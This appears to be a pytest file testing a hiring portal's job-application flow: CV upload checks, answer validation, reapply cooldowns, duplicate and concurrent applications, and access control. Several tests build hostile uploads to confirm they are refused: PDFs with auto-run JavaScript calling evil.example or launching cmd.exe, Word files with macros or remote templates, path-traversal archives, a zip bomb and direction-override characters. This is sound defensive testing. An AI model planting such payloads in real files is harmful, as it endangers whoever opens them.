"""Applying: CV upload checks, short answers, cooldown after a rejection, duplicates."""

from __future__ import annotations

import io
import zipfile
from datetime import timedelta

import pytest
from sqlalchemy import func, select

from portal.extensions import db
from portal.hiring import process
from portal.hiring import services as hiring
from portal.hiring.models import Application
from portal.timeutil import utcnow
from tests.feedback.helpers import unanimous_team
from tests.helpers import PDF, field_error, login, outbox, race
from tests.storage.documents import MACRO_MAIN, docx, pdf, relationship

ANSWERS = {
    "motivation": "I want to build fair hiring.",
    "proud_of": "A migration with zero downtime.",
    "link": "https://example.com/me",
}


def _stored_files(app) -> list:
    root = app.config["STORAGE_DIR"]
    import pathlib

    return [p for p in pathlib.Path(root).rglob("*") if p.is_file()]


def _docx(extra: dict[str, bytes] | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<document/>")
        for name, content in (extra or {}).items():
            archive.writestr(name, content)
    return buffer.getvalue()


def _apply(client, position, content=PDF, filename="cv.pdf", **answers):
    data = dict(ANSWERS, **answers)
    data["cv"] = (io.BytesIO(content), filename)
    return client.post(f"/positions/{position.id}/apply", data=data, content_type="multipart/form-data")


def _applications() -> int:
    return db.session.scalar(select(func.count()).select_from(Application))


@pytest.fixture
def candidate_client(client, factory):
    candidate = factory.candidate("applicant@example.com")
    login(client, candidate)
    client.candidate = candidate
    return client


def test_candidate_applies_with_pdf_and_sees_the_tracker(app, candidate_client, factory):
    position = factory.position(title="Site Reliability Engineer")
    response = _apply(candidate_client, position)
    assert response.status_code == 302
    application = db.session.scalars(select(Application)).one()
    assert response.headers["Location"].endswith(f"/applications/{application.id}")
    assert application.answers["motivation"] == ANSWERS["motivation"]
    assert application.stage.key == "applied"
    page = candidate_client.get(f"/applications/{application.id}").get_data(as_text=True)
    assert 'aria-current="step"' in page and "Current step" in page and "Upcoming" in page
    assert "You will hear from us by" in page
    assert [m.kind for m in outbox("application_received")] == ["application_received"]
    cv = candidate_client.get(f"/applications/{application.id}/cv")
    assert cv.status_code == 200 and cv.data == PDF


def test_docx_cv_is_accepted(app, candidate_client, factory):
    assert _apply(candidate_client, factory.position(), _docx(), "My CV.docx").status_code == 302
    assert db.session.scalars(select(Application)).one().cv_file.name == "My CV.docx"


@pytest.mark.parametrize(
    "content, filename, message",
    [
        (b"just text, not a pdf", "cv.pdf", "not a PDF"),
        (b"%PDF-1.4 cut off half way", "cv.pdf", "incomplete or damaged"),
        (PDF, "cv.exe", "PDF or Word"),
        (PDF, "cv", "PDF or Word"),
        (b"PK\x03\x04 broken zip", "cv.docx", "damaged"),
        (b"", "cv.pdf", "empty"),
    ],
)
def test_bad_cv_is_refused_with_a_message_and_leaves_nothing(
    app, candidate_client, factory, content, filename, message
):
    position = factory.position()
    response = _apply(candidate_client, position, content, filename)
    page = response.get_data(as_text=True)
    assert response.status_code == 422
    assert message in page
    assert ANSWERS["motivation"] in page  # what was typed is kept
    assert _applications() == 0
    assert _stored_files(app) == []


def test_docx_with_path_traversal_or_bomb_is_refused(app, candidate_client, factory):
    position = factory.position()
    response = _apply(candidate_client, position, _docx({"../../etc/evil": b"x"}), "cv.docx")
    assert response.status_code == 422 and "unsafe path" in response.get_data(as_text=True)
    bomb = _docx({"word/media/zeros.bin": b"\0" * (40 * 1024 * 1024)})
    response = _apply(candidate_client, position, bomb, "cv.docx")
    assert response.status_code == 422 and "archive bomb" in response.get_data(as_text=True)
    assert _applications() == 0 and _stored_files(app) == []


def test_cv_over_10_mb_is_refused(app, candidate_client, factory):
    position = factory.position()
    for size_mb in (10, 12):  # just over, and over by a few MB: a message next to the field, answers kept
        response = _apply(candidate_client, position, PDF + b"0" * (size_mb * 1024 * 1024))
        page = response.get_data(as_text=True)
        assert response.status_code == 422 and "larger than 10 MB" in page and ANSWERS["motivation"] in page
    far_over = PDF + b"0" * (31 * 1024 * 1024)
    response = _apply(candidate_client, position, far_over)
    assert response.status_code == 413 and "too large" in response.get_data(as_text=True)
    assert _applications() == 0 and _stored_files(app) == []


@pytest.mark.parametrize(
    "content, filename, message",
    [
        (
            pdf(catalog=b"/OpenAction<</S/JavaScript/JS(app.launchURL('https://evil.example'))>>"),
            "cv.pdf",
            "The PDF contains scripts",
        ),
        (pdf(catalog=b"/OpenAction<</S/Launch/F(cmd.exe)>>"), "cv.pdf", "starts a program"),
        (docx(main=MACRO_MAIN, parts={"word/vbaProject.bin": b"x"}), "cv.docx", "The document contains macros"),
        (
            docx(
                settings_relationships=[
                    relationship("rId1", "attachedTemplate", "https://evil.example/t.dotm", external=True)
                ]
            ),
            "cv.docx",
            "loads content from elsewhere",
        ),
    ],
    ids=["pdf-javascript", "pdf-launch", "docx-macro", "docx-remote-template"],
)
def test_cv_with_active_content_is_refused_next_to_the_field_and_leaves_nothing(
    app, candidate_client, factory, content, filename, message
):
    response = _apply(candidate_client, factory.position(), content, filename)
    page = response.get_data(as_text=True)
    assert response.status_code == 422
    assert message in field_error(page, "cv")
    assert ANSWERS["motivation"] in page
    assert _applications() == 0 and _stored_files(app) == []


def test_the_cv_is_kept_as_a_stored_file_of_the_candidate(app, candidate_client, factory):
    import hashlib

    content = docx("Ada Lovelace")
    assert _apply(candidate_client, factory.position(), content, "Ada CV.docx").status_code == 302
    cv = db.session.scalars(select(Application)).one().cv_file
    assert (cv.owner_type, cv.owner_id, cv.created_by_id) == (
        "users",
        candidate_client.candidate.id,
        candidate_client.candidate.id,
    )
    assert (cv.kind, cv.name, cv.original_name, cv.size) == ("cv", "Ada CV.docx", "Ada CV.docx", len(content))
    assert cv.sha256 == hashlib.sha256(content).hexdigest()
    assert [p.read_bytes() for p in _stored_files(app)] == [content]


def test_a_request_too_large_for_a_cv_names_the_cv_limit_not_the_largest(make_app, factory):
    from portal.storage.kinds import MB, UploadKind

    app = make_app(
        UPLOAD_KINDS={
            "cv": UploadKind("CV", ("pdf", "docx"), 1 * MB),
            "bigger": UploadKind("Submission", ("pdf",), 5 * MB),
        }
    )
    assert app.config["MAX_CONTENT_LENGTH"] == 15 * MB
    with app.app_context():
        candidate, position = factory.candidate(), factory.position()
        client = app.test_client()
        login(client, candidate)
        response = _apply(client, position, PDF + b"0" * (16 * MB))
        page = response.get_data(as_text=True)
        assert response.status_code == 413 and "1 MB" in page and "5 MB" not in page
        response = _apply(client, position, PDF + b"0" * (2 * MB))
        assert response.status_code == 422 and "larger than 1 MB" in field_error(response.get_data(as_text=True), "cv")


def test_missing_answer_and_bad_link_are_reported_next_to_the_field(app, candidate_client, factory):
    response = _apply(candidate_client, factory.position(), motivation="", link="not a url")
    page = response.get_data(as_text=True)
    assert response.status_code == 422
    assert 'id="motivation-error"' in page and 'id="link-error"' in page
    assert _applications() == 0


def test_an_answer_with_a_direction_override_is_refused_next_to_the_field_and_kept(app, candidate_client, factory):
    position = factory.position()
    for answers in ({"motivation": "hi \u202eevil"}, {"proud_of": "A zero\u200bdowntime migration"}):
        response = _apply(candidate_client, position, **answers)
        page = response.get_data(as_text=True)
        [(name, typed)] = answers.items()
        assert response.status_code == 422
        assert (
            field_error(page, name) == "Error: Remove the invisible or direction-changing characters from this field."
        )
        assert typed in page
    assert _applications() == 0 and _stored_files(app) == []


def test_an_answer_the_browser_took_at_its_length_limit_is_accepted_with_its_line_breaks(
    app, candidate_client, factory
):
    # The browser counts each line break as one character against maxlength, and posts it as CR LF.
    lines = ["x" * 98] * 20
    typed = "\n".join(lines) + "\n" + "y" * 20  # 2,000 characters as the browser counts them
    assert len(typed) == 2000
    response = _apply(candidate_client, factory.position(), motivation=typed.replace("\n", "\r\n"))
    assert response.status_code == 302, field_error(response.get_data(as_text=True), "motivation")
    assert db.session.scalar(select(Application)).answers["motivation"] == typed
    # One character more is refused, as the browser would.
    response = _apply(candidate_client, factory.position(), motivation=(typed + "z").replace("\n", "\r\n"))
    assert response.status_code == 422
    assert "2000" in field_error(response.get_data(as_text=True), "motivation")


def test_rejected_candidate_sees_exact_reapply_date_and_cannot_apply(app, candidate_client, factory):
    recruiter = factory.staff("recruiter")
    position = factory.position(recruiter, reapply_cooldown_months=6)
    application = factory.application(candidate_client.candidate, position, actor=recruiter)
    hiring.move(application.id, process.Action.REJECT, recruiter, feedback="Thanks; grow in testing.")
    until = db.session.get(Application, application.id).reapply_after
    date_text = until.strftime("%d %B %Y")

    page = candidate_client.get(f"/positions/{position.id}").get_data(as_text=True)
    assert date_text in page or until.strftime("%A %d %B %Y") in page
    response = candidate_client.get(f"/positions/{position.id}/apply")
    assert response.status_code == 409 and date_text in response.get_data(as_text=True)
    response = _apply(candidate_client, position)
    assert response.status_code == 409
    assert _applications() == 1


def test_cooldown_ends_on_the_reapply_date(app, candidate_client, factory):
    recruiter = factory.staff("recruiter")
    position = factory.position(recruiter)
    application = factory.application(candidate_client.candidate, position, actor=recruiter)
    hiring.move(application.id, process.Action.REJECT, recruiter, feedback="Not this time.")
    application = db.session.get(Application, application.id)
    assert hiring.cooldown_until(candidate_client.candidate, position, today=application.reapply_after) is None
    assert (
        hiring.cooldown_until(candidate_client.candidate, position, today=application.reapply_after - timedelta(days=1))
        == application.reapply_after
    )
    application.reapply_after = utcnow().date()
    db.session.commit()
    assert _apply(candidate_client, position).status_code == 302


def test_withdrawn_candidate_may_apply_again_but_not_twice_at_once(app, candidate_client, factory):
    position = factory.position()
    assert _apply(candidate_client, position).status_code == 302
    response = _apply(candidate_client, position)
    assert response.status_code == 409 and "already applied" in response.get_data(as_text=True)
    first = db.session.scalars(select(Application)).one()
    assert candidate_client.post(f"/applications/{first.id}/withdraw").status_code == 302
    assert _apply(candidate_client, position).status_code == 302
    assert _applications() == 2


def test_closed_and_draft_positions_take_no_applications(app, candidate_client, factory):
    closed = factory.position(status="closed")
    draft = factory.position(status="draft")
    assert _apply(candidate_client, closed).status_code == 409
    assert candidate_client.get(f"/positions/{draft.id}").status_code == 404
    assert _apply(candidate_client, draft).status_code == 404
    assert _applications() == 0


def test_unverified_candidate_is_sent_to_verify_before_applying(app, client, factory):
    login(client, factory.candidate(verified=False))
    response = client.get(f"/positions/{factory.position().id}/apply")
    assert response.status_code == 302 and response.headers["Location"].endswith("/auth/verify")


def test_candidate_cannot_open_another_candidates_application(app, client, factory):
    other = factory.application()
    login(client, factory.candidate())
    assert client.get(f"/applications/{other.id}").status_code == 404
    assert client.get(f"/applications/{other.id}/cv").status_code == 404
    assert client.post(f"/applications/{other.id}/withdraw").status_code == 404
    assert db.session.get(Application, other.id).status == "active"


def test_simultaneous_applications_create_only_one(app, factory):
    """Two submissions racing on PostgreSQL: the unique index lets exactly one through."""
    import threading

    from portal.errors import AlreadyApplied
    from tests.conftest import is_postgres

    if not is_postgres():
        pytest.skip("needs PostgreSQL: SQLite serialises all writers")
    candidate, position = factory.candidate(), factory.position()
    candidate_id, position_id = candidate.id, position.id
    barrier = threading.Barrier(4)

    def submit():
        from portal.accounts.models import User
        from portal.hiring.models import Position

        user, target = db.session.get(User, candidate_id), db.session.get(Position, position_id)
        barrier.wait()
        hiring.apply(user, target, cv_stream=io.BytesIO(PDF), cv_filename="cv.pdf", answers=ANSWERS)

    assert race(app, 4, submit, AlreadyApplied) == ["done", "refused", "refused", "refused"]
    assert _applications() == 1
    assert len(_stored_files(app)) == 1


def test_a_hired_candidate_cannot_apply_again_to_the_same_position(app, candidate_client, factory):
    recruiter = factory.staff("recruiter")
    position = factory.position(recruiter)
    application = factory.application(candidate_client.candidate, position, advances=5, actor=recruiter)
    hiring.move(application.id, process.Action.HIRE, unanimous_team(application))
    response = _apply(candidate_client, position)
    assert response.status_code == 409 and "already have an offer" in response.get_data(as_text=True)
    assert _applications() == 1


def test_huge_ids_are_not_found(app, candidate_client):
    assert candidate_client.get("/positions/99999999999999999999").status_code == 404
    assert candidate_client.get("/applications/99999999999999999999").status_code == 404
